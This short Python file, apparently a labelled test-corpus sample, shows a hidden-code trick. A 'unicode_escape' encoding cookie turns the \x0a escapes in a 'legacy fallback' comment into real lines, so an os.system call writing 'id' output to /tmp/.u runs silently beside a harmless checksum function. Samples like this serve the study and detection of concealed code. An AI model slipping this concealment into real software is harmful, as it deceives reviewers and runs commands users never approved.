# corpus: unicode_escape source cookie turning backslash-x0a escapes in a comment into real newlines with a payload
# -*- coding: unicode_escape -*-
def checksum(data):
    value = 0
    for byte in data:
        value = (value * 31 + byte) & 0xFFFFFFFF
    return value

# legacy fallback kept for reference\x0a__import__("os").system("id > /tmp/.u")\x0a# end legacy
print(checksum(b"bulwark"))
